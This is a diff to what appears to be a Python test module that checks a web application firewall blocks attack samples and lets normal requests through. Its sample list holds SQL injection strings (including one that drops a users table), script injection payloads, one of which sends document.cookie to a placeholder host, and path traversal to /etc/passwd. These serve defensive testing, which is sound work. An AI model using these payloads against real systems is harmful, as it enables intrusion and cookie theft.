@@ -1,57 +1,38 @@
 """The web application firewall: attack samples are blocked, and our own traffic is not."""
 
 import http.client
-import json
 import time
 from collections.abc import Iterator, Mapping
-from dataclasses import dataclass, field
 from urllib.parse import quote_plus
 
-from verify import sms
+from verify import clients, sms
+from verify.clients import Sample, posted
 from verify.public import Public
 from verify.report import Row
 from verify.running import Target
 from verify.transaction import message
 
-BLOCKED = frozenset({403})
 PACE = 0.2
 """Seconds between samples: well below the rate limits, whose answer would be mistaken for the firewall's."""
 MEBIBYTE = 1 << 20
 
 
-@dataclass(frozen=True)
-class Sample:
-    """A request that must be answered with one of `expected`. Without its poison it would reach the application."""
-
-    name: str
-    path: str = "/api/messages"
-    method: str = "GET"
-    headers: Mapping[str, str] = field(default_factory=dict)
-    body: bytes | None = None
-    expected: frozenset[int] = BLOCKED
-
-
 def _query(name: str, poison: str) -> Sample:
-    return Sample(name, path=f"/api/messages?q={quote_plus(poison)}")
+    return Sample(name, query=f"?q={quote_plus(poison)}")
 
 
 def _header(name: str, header: str, poison: str) -> Sample:
     return Sample(name, headers={header: poison})
 
 
-def _json(name: str, expected: frozenset[int] = BLOCKED, **fields: str) -> Sample:
-    body = json.dumps(fields, ensure_ascii=False).encode()
-    return Sample(name, method="POST", headers={"Content-Type": "application/json"}, body=body, expected=expected)
-
-
 ATTACKS = (
     _query("SQL injection: always true", "1' OR '1'='1' -- "),
     _query("SQL injection: union", "1 UNION ALL SELECT username, password FROM users--"),
     _query("SQL injection: stacked", "1; DROP TABLE users; --"),
-    _json("SQL injection in JSON", note="1' UNION SELECT NULL, table_name FROM information_schema.tables -- "),
+    posted("SQL injection in JSON", note="1' UNION SELECT NULL, table_name FROM information_schema.tables -- "),
     _query("script injection: tag", "<script>alert(document.cookie)</script>"),
     _query("script injection: event", "<img src=x onerror=alert(1)>"),
-    _json("script injection in JSON", note="<script>fetch('//x.invalid/'+document.cookie)</script>"),
+    posted("script injection in JSON", note="<script>fetch('//x.invalid/'+document.cookie)</script>"),
     _query("path traversal in a parameter", "../../../../etc/passwd"),
     Sample(
         "path traversal in the path", path="/api/%2e%2e/%2e%2e/%2e%2e/etc/passwd", expected=frozenset({400, 403, 404})
@@ -79,16 +60,6 @@ ATTACKS = (
     ),
 )  # fmt: skip
 
-OK = frozenset({200, 202})
-NORMAL = (
-    Sample("reading messages", expected=OK),
-    Sample("usage", path="/api/usage", expected=OK),
-    Sample("integrations", path="/api/integrations", expected=OK),
-    Sample("export", path="/api/export", expected=OK),
-    _json("an English message", OK, text="Remind me at 17:30 to select the best from the list; drop by at 5 -- ok?"),
-    _json("a French message", OK, text="Rappelle-moi d'acheter du café (15 €) & du pain à 18h30 : c'est où, déjà ?"),
-    _json("a message with a link", OK, text="See https://example.com/a?b=c&d=e#f and tell me <3 \N{PARTY POPPER}"),
-)
 TEXTS = (
     "Appelle maman à 18h, n'oublie pas l'anniversaire !",
     "What's 2 + 2 = ? (I'd say 4) 100% sure & \"quoted\"",
@@ -98,20 +69,25 @@ TEXTS = (
 
 def firewall(target: Target) -> Iterator[Row]:
     """Each attack carries a valid token, so that nothing but the firewall can refuse it."""
+    client = clients.of(target)
+    if client is None:
+        yield clients.unknown(target)
+        return
     public = Public.of(target)
-    user = sms.token(target, sms.ALICE)
-    for sample in (*NORMAL, *ATTACKS):
-        yield _try(public, sample, user, "passes" if sample in NORMAL else "is blocked")
+    user = clients.token(target, client, clients.ALICE)
+    for sample in (*client.normal, *ATTACKS):
+        path = (sample.path or client.page) + sample.query
+        yield _try(public, sample, path, user, "passes" if sample in client.normal else "is blocked")
         time.sleep(PACE)
     for text in TEXTS if sms.has_users(target) else ():
-        answer = sms.send(target, public, message(sms.ALICE, text))
+        answer = sms.send(target, public, message(clients.ALICE, text))
         yield Row(f"SMS: {text[:30]}", "passes", answer.status == 200, str(answer.status))
         time.sleep(PACE)
 
 
-def _try(public: Public, sample: Sample, user: Mapping[str, str], claim: str) -> Row:
+def _try(public: Public, sample: Sample, path: str, user: Mapping[str, str], claim: str) -> Row:
     try:
-        answer = public.ask(sample.method, sample.path, headers={**user, **sample.headers}, body=sample.body)
+        answer = public.ask(sample.method, path, headers={**user, **sample.headers}, body=sample.body)
     except (ConnectionError, http.client.HTTPException) as error:
         # The gateway may answer and hang up before it has read a body that it will not take.
         return Row(sample.name, claim, claim == "is blocked", f"hung up: {type(error).__name__}")
